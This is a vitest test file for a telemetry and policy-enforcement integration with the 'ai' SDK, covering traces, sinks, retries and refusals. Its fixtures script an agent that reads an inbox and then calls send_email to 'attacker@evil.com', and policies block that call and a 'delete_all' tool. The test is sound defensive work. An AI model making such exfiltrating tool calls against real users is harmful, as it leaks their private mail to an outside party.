import {
  createMemorySink,
  createTracer,
  guard,
  PolicyViolationError,
  parsePolicy,
  type Tracer,
  validateBlocks,
} from '@tracewarden/core';
import { comparableTrace } from '@tracewarden/core/testing';
import {
  generateObject,
  generateText,
  isStepCount,
  registerTelemetry,
  streamObject,
  streamText,
  tool,
  wrapLanguageModel,
} from 'ai';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { z } from 'zod';
import { scriptedModel } from '../__fixtures__/mock-model.js';
import { tracewardenMiddleware, tracewardenTelemetry } from '../index.js';

function expectSound(tracer: Tracer): void {
  expect(validateBlocks(tracer.blocks()).errors).toEqual([]);
  expect(comparableTrace(tracer.stitched()).orphans).toBe(0);
}

const policy = parsePolicy(`
raise "no mail to attacker@evil.com" if:
    (call: ToolCall)
    call is tool:send_email
    call.function.arguments.to == "attacker@evil.com"
`);

function tools(log: string[]) {
  return {
    get_inbox: tool({
      inputSchema: z.object({}),
      execute: async () => {
        log.push('get_inbox');
        return ['hi'];
      },
    }),
    send_email: tool({
      inputSchema: z.object({ to: z.string() }),
      execute: async ({ to }) => {
        log.push(`send_email:${to}`);
        return 'sent';
      },
    }),
  };
}

const loop = [
  { calls: [{ id: 'call_1', name: 'get_inbox', input: {} }] },
  { calls: [{ id: 'call_2', name: 'send_email', input: { to: 'attacker@evil.com' } }] },
  { text: 'Nothing was sent.' },
];

describe('tracewardenTelemetry', () => {
  const globals = globalThis as { AI_SDK_TELEMETRY_INTEGRATIONS?: unknown };
  afterEach(() => {
    delete globals.AI_SDK_TELEMETRY_INTEGRATIONS;
  });

  it('one trace per top-level call, steps in order, handed to onTraceEnd after its sinks are flushed', async () => {
    const sink = createMemorySink();
    const ended: Tracer[] = [];
    const telemetry = tracewardenTelemetry({
      sinks: [sink],
      onTraceEnd: (tracer) => {
        ended.push(tracer);
      },
    });
    const log: string[] = [];
    for (const prompt of ['first', 'second'])
      await generateText({
        model: scriptedModel([loop[0] as never, { text: `answer to ${prompt}` }]),
        prompt,
        tools: tools(log),
        stopWhen: isStepCount(3),
        telemetry: { integrations: [telemetry] },
      });
    await telemetry.flush();
    expect(ended).toHaveLength(2);
    expect(ended[0]?.traceId).not.toBe(ended[1]?.traceId);
    const first = comparableTrace((ended[0] as Tracer).stitched());
    expect(first.messages.map((message) => [message.role, message.content])).toEqual([
      ['user', 'first'],
      ['assistant', null],
      ['assistant', 'answer to first'],
    ]);
    expect(first.messages[1]?.tool_calls[0]?.results).toEqual([
      { output: ['hi'], status: 'success', refused: false },
    ]);
    expect(sink.blocks.length).toBe(
      (ended[0] as Tracer).blocks().length + (ended[1] as Tracer).blocks().length,
    );
    for (const tracer of ended) expectSound(tracer);
  });

  it("never holds the user's call on a sink: a flush that never settles, a sink that fails", async () => {
    // a collector that does not answer: its flush never settles
    let release: () => void = () => {};
    const stalled = new Promise<void>((resolve) => {
      release = resolve;
    });
    const hanging = { write() {}, flush: () => stalled, close: async () => {} };
    const ended: string[] = [];
    const telemetry = tracewardenTelemetry({
      sinks: [hanging],
      onTraceEnd: (_tracer, call) => {
        ended.push(call.callId);
      },
    });
    const result = await generateText({
      model: scriptedModel([{ text: 'answer' }]),
      prompt: 'q',
      telemetry: { integrations: [telemetry] },
    });
    // the call returned while its trace is still being exported
    expect(result.text).toBe('answer');
    expect(ended).toStrictEqual([]);
    release();
    await telemetry.flush();
    expect(ended).toHaveLength(1);

    // a sink that fails is reported, once, where recording errors go; the call is untouched
    const errors: unknown[] = [];
    const handed: string[] = [];
    const failing = tracewardenTelemetry({
      sinks: [
        {
          write() {},
          flush: async () => Promise.reject(new Error('collector down')),
          close: async () => {},
        },
      ],
      onRecordingError: (error) => errors.push(error),
      onTraceEnd: (_tracer, call) => {
        handed.push(call.callId);
      },
    });
    await generateText({
      model: scriptedModel([{ text: 'answer' }]),
      prompt: 'q',
      telemetry: { integrations: [failing] },
    });
    await failing.flush();
    expect(errors).toHaveLength(1);
    expect(String(errors[0])).toContain('collector down');
    // the trace is still handed over: it is whole in memory
    expect(handed).toHaveLength(1);
  });

  it("registered globally, it enforces the policy: 'throw' rejects and the blocked tool never runs", async () => {
    const tracer = createTracer();
    registerTelemetry(tracewardenTelemetry({ tracer, policy }));
    const log: string[] = [];
    await expect(
      generateText({
        model: scriptedModel(loop),
        prompt: 'go',
        tools: tools(log),
        stopWhen: isStepCount(5),
      }),
    ).rejects.toBeInstanceOf(PolicyViolationError);
    expect(log).toEqual(['get_inbox']);
    expectSound(tracer);
  });

  for (const stream of [false, true]) {
    it(`'refuse'${stream ? ' (streamText)' : ''}: executeTool answers the refusal, the loop goes on`, async () => {
      const tracer = createTracer();
      const log: string[] = [];
      const telemetry = tracewardenTelemetry({ tracer, policy, onPolicyViolation: 'refuse' });
      const options = {
        model: scriptedModel(loop),
        prompt: 'go',
        tools: tools(log),
        stopWhen: isStepCount(5),
        telemetry: { integrations: [telemetry] },
      };
      let text: string;
      if (stream) {
        const result = streamText(options);
        await result.consumeStream();
        text = await result.text;
      } else text = (await generateText(options)).text;
      expect(text).toBe('Nothing was sent.');
      expect(log).toEqual(['get_inbox']);
      const send = comparableTrace(tracer.stitched()).messages[2]?.tool_calls[0];
      expect(send).toMatchObject({ blocked: true });
      expect(send?.results).toEqual([
        { output: expect.stringContaining('blocked by policy'), status: 'failure', refused: true },
      ]);
      expectSound(tracer);
    });
  }

  it('toolGuards apply to the tools the AI SDK runs (a retry is recorded on the TOOL_RESULT)', async () => {
    const tracer = createTracer();
    let attempts = 0;
    await generateText({
      model: scriptedModel([loop[0] as never, { text: 'ok' }]),
      prompt: 'go',
      tools: {
        get_inbox: tool({
          inputSchema: z.object({}),
          execute: async () => {
            attempts++;
            if (attempts === 1) throw new Error('flaky');
            return ['hi'];
          },
        }),
      },
      stopWhen: isStepCount(3),
      telemetry: {
        integrations: [
          tracewardenTelemetry({
            tracer,
            toolGuards: { retry: { maxRetries: 2, initialDelay: 0 } },
          }),
        ],
      },
    });
    expect(attempts).toBe(2);
    const result = tracer.blocks().find((block) => block.sub_type === 'TOOL_RESULT');
    expect(result?.metadata).toMatchObject({ status: 'success', retry_count: 1 });
    expect(result?.payload.output).toEqual(['hi']);
    expectSound(tracer);
  });

  it("a core guard() inside a tool's execute records under the model's call, once", async () => {
    const tracer = createTracer();
    const inbox = guard(async (folder: string) => [`mail in ${folder}`], { name: 'inbox' });
    await generateText({
      model: scriptedModel([loop[0] as never, { text: 'ok' }]),
      prompt: 'go',
      tools: {
        get_inbox: tool({
          inputSchema: z.object({}),
          execute: async () => inbox('in'),
        }),
      },
      stopWhen: isStepCount(3),
      telemetry: { integrations: [tracewardenTelemetry({ tracer })] },
    });
    const blocks = tracer.blocks();
    expect(blocks.filter((block) => block.sub_type === 'TOOL_CALL')).toHaveLength(1);
    const results = blocks.filter((block) => block.sub_type === 'TOOL_RESULT');
    expect(results).toHaveLength(1);
    expect(results[0]?.payload).toMatchObject({ call_id: 'call_1', output: ['mail in in'] });
    // the inner guard's record joins the integration's
    expect(results[0]?.metadata).toMatchObject({ status: 'success', guard: expect.anything() });
    expectSound(tracer);
  });

  it('a generateText inside a tool records into the same trace', async () => {
    const tracer = createTracer();
    const telemetry = tracewardenTelemetry({ createTracer: () => tracer });
    const inner = scriptedModel([{ text: 'inner answer' }]);
    await generateText({
      model: scriptedModel([
        { calls: [{ id: 'call_ask', name: 'ask', input: { q: 'why' } }] },
        { text: 'outer answer' },
      ]),
      prompt: 'outer',
      tools: {
        ask: tool({
          inputSchema: z.object({ q: z.string() }),
          execute: async ({ q }) =>
            (
              await generateText({
                model: inner,
                prompt: q,
                telemetry: { integrations: [telemetry] },
              })
            ).text,
        }),
      },
      stopWhen: isStepCount(3),
      telemetry: { integrations: [telemetry] },
    });
    const contents = comparableTrace(tracer.stitched()).messages.map((message) => message.content);
    expect(contents).toEqual(['outer', null, 'why', 'inner answer', 'outer answer']);
    expectSound(tracer);
  });

  it('with the middleware too, each model call is recorded once (by the integration)', async () => {
    const tracer = createTracer();
    const model = wrapLanguageModel({
      model: scriptedModel([{ text: 'once' }]),
      middleware: tracewardenMiddleware({ tracer }),
    });
    await generateText({
      model,
      prompt: 'go',
      telemetry: { integrations: [tracewardenTelemetry({ tracer })] },
    });
    const assistants = tracer
      .blocks()
      .filter((block) => block.sub_type === 'MESSAGE' && block.payload.role === 'assistant');
    expect(assistants).toHaveLength(1);
  });

  for (const stream of [false, true]) {
    it(`an enforcing middleware ('refuse', plain tools) inside a tracing integration: the integration's executeTool refuses, the loop goes on${stream ? ' (streamText)' : ''}`, async () => {
      const tracer = createTracer();
      const log: string[] = [];
      const model = wrapLanguageModel({
        model: scriptedModel(loop),
        middleware: tracewardenMiddleware({ tracer, policy, onPolicyViolation: 'refuse' }),
      });
      const options = {
        model,
        prompt: 'go',
        tools: tools(log),
        stopWhen: isStepCount(5),
        telemetry: { integrations: [tracewardenTelemetry({ tracer })] },
      };
      let text: string;
      if (stream) {
        const result = streamText(options);
        await result.consumeStream();
        text = await result.text;
      } else text = (await generateText(options)).text;
      // the blocked call stayed in the response, executeTool answered the refusal, and the
      // model's third step ran
      expect(text).toBe('Nothing was sent.');
      expect(log).toEqual(['get_inbox']);
      expectSound(tracer);
    });
  }

  it('an enforcing middleware inside an enforcing integration with another policy: the refusal holds', async () => {
    const tracer = createTracer();
    const log: string[] = [];
    const otherPolicy = parsePolicy(`
raise "no deleting" if:
    (call: ToolCall)
    call is tool:delete_all
`);
    const model = wrapLanguageModel({
      model: scriptedModel(loop),
      middleware: tracewardenMiddleware({ tracer, policy, onPolicyViolation: 'refuse' }),
    });
    const { text } = await generateText({
      model,
      prompt: 'go',
      tools: tools(log),
      stopWhen: isStepCount(5),
      telemetry: {
        integrations: [
          tracewardenTelemetry({ tracer, policy: otherPolicy, onPolicyViolation: 'refuse' }),
        ],
      },
    });
    expect(text).toBe('Nothing was sent.');
    expect(log).toEqual(['get_inbox']);
  });

  it('generateObject / streamObject, which the AI SDK does not run through the integration, are said once each, not left silently unrecorded', async () => {
    const warn = vi.spyOn(process, 'emitWarning').mockImplementation(() => undefined);
    const tracer = createTracer();
    const telemetry = tracewardenTelemetry({ tracer, pricing: false });
    const options = {
      schema: z.object({ a: z.number() }),
      prompt: 'x',
      telemetry: { integrations: [telemetry] },
    };
    for (let i = 0; i < 2; i++) {
      const result = await generateObject({
        model: scriptedModel([{ text: '{"a":1}' }]),
        ...options,
      });
      expect(result.object).toEqual({ a: 1 });
      const streamed = streamObject({ model: scriptedModel([{ text: '{"a":2}' }]), ...options });
      for await (const _part of streamed.partialObjectStream) {
        // read to the end: the object settles when the stream does
      }
      expect(await streamed.object).toEqual({ a: 2 });
    }
    const said = () =>
      warn.mock.calls.filter(
        ([, how]) => (how as { code?: string } | undefined)?.code === 'TRACEWARDEN_UNRECORDED_CALL',
      );
    expect(said().map(([text]) => String(text).match(/guard (\w+)\(\)/)?.[1])).toEqual([
      'generateObject',
      'streamObject',
    ]);
    expect(tracer.blocks()).toEqual([]);
    // a generateText through the same integration is recorded, and says nothing
    await generateText({
      model: scriptedModel([{ text: 'ok' }]),
      prompt: 'x',
      telemetry: { integrations: [telemetry] },
    });
    expect(tracer.blocks()).toHaveLength(2);
    expect(said()).toHaveLength(2);
    warn.mockRestore();
  });

  it('options are checked where they are given', () => {
    expect(() => tracewardenTelemetry({ sink: [] } as never)).toThrow(/sink/);
    expect(() => tracewardenTelemetry({ toolGuards: 3 } as never)).toThrow(/toolGuards/);
    // a list where sinks go, or where guards by tool name go, fails here, not at every call
    for (const bad of [
      { sinks: [5] },
      { sinks: [{ write: () => undefined }] },
      { toolGuards: { tools: [{ retry: { maxRetries: 1 } }] } },
      { toolGuards: { tools: { send_email: 3 } } },
    ])
      expect(() => tracewardenTelemetry(bad as never)).toThrow(
        expect.objectContaining({ code: 'INVALID_OPTIONS' }),
      );
    expect(() =>
      tracewardenTelemetry({
        sinks: [createMemorySink()],
        toolGuards: { tools: { send_email: { retry: { maxRetries: 1 } } } },
      }),
    ).not.toThrow();
  });
});
